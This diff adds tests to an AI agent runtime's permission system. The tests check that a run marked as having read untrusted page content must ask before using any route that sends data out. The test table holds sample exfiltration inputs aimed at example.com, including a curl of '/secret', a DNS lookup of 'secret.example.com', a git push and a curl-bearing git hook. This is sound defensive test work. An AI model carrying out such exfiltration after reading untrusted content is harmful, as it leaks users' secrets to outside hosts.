@@ -104,6 +104,74 @@ test("a run can begin marked, as the next of a conversation does", async () => {
   expect(errorOf(await next.execute({ tool: "run_it" })).code).toBe("approval_required");
 });
 
+const page = "https://example.com/";
+const reaching = (name: string, rest: Partial<Parameters<typeof aTool>[0]> = {}) => aTool({ name, ...rest });
+
+/** Ways out that a rule allows; none of them may be taken unasked once a run is marked. */
+const ways: [name: string, input: object, tool?: Tool][] = [
+  ["http_get", { url: `${page}?leak=secret` }],
+  ["fetch", { url: `${page}leak/secret` }],
+  ["http_request", { url: `${page}?leak`, method: "HEAD" }],
+  ["http_post", { url: page, body: "secret" }],
+  ["web_search", { query: "secret" }],
+  ["shell", { command: "curl https://example.com/secret" }],
+  ["shell", { command: "dig secret.example.com" }],
+  ["shell", { command: "git push https://example.com/x" }],
+  ["shell", { command: "echo harmless" }],
+  ["write_file", { path: "package.json", content: "{}" }],
+  ["write_file", { path: ".git/hooks/pre-commit", content: "curl x" }],
+  ["write_file", { path: "sub/Makefile", content: "all:" }],
+  ["install_skill", { source: "https://example.com/s.zip" }],
+  ["server_tool", {}, reaching("server_tool", { source: "mcp", origin: "github" })],
+  ["browser_navigate", { url: page }, reaching("browser_navigate", { source: "mcp", origin: "playwright" })],
+  ["api_call", {}, reaching("api_call", { source: "http", origin: "petstore" })],
+  [
+    "send_message",
+    {},
+    reaching("send_message", { effects: () => [{ kind: "message.send", target: "bob" }] }),
+  ],
+  ["pay", {}, reaching("pay", { effects: () => [{ kind: "money.spend", target: "5 EUR" }] })],
+  ["later", {}, { ...reaching("later", { category: "schedule", risk: "medium" }), source: "builtin" }],
+  [
+    "own_word",
+    {},
+    reaching("own_word", { sendsOut: true, effects: () => [{ kind: "file.read", target: "a.txt" }] }),
+  ],
+];
+
+for (const [name, input, tool] of ways) {
+  test(`a marked run asks before a way out that a rule allows: ${name} ${JSON.stringify(input)}`, async () => {
+    // A tool without effects has nothing that a pattern could match.
+    const safe = [tool !== undefined && tool.effects(input).length === 0 ? name : `${name}(**)`];
+    await using world = await aRuntime({
+      ...(tool === undefined ? {} : { tools: [tool] }),
+      config: { permissions: { safe } },
+    });
+    expect((await world.runtime.explain(name, input)).verdict).toBe("allow");
+    const run = await world.runtime.openRun({ untrusted: ["a page"], named: [page] });
+    const error = errorOf(await run.execute({ tool: name, input }));
+    expect(error.code).toBe("approval_required");
+    const { reasons } = error.details.request as ApprovalRequest;
+    expect(reasons).toContainEqual(
+      expect.objectContaining({ layer: "provenance", rule: "untrusted content from a page", effect: "ask" }),
+    );
+  });
+}
+
+test("a marked run may fetch exactly the address that the user named, and read and think as before", async () => {
+  const look = aTool({ name: "look", effects: () => [{ kind: "host.read", target: page }] });
+  await using world = await aRuntime({ tools: [look], files: { "a.txt": "mine" } });
+  const run = await world.runtime.openRun({ untrusted: ["a page"], named: [page] });
+  expect(outputOf(await run.execute({ tool: "look" }))).toBe("done");
+  for (const [tool, input] of [
+    ["read_file", { path: "a.txt" }],
+    ["current_time", {}],
+    ["grep", { pattern: "mine" }],
+    ["search_tools", { query: "time" }],
+  ] as const)
+    expect((await run.execute({ tool, input })).type, tool).toBe("success");
+});
+
 interface RecordedCall {
   readonly id: string;
   readonly tool: string;
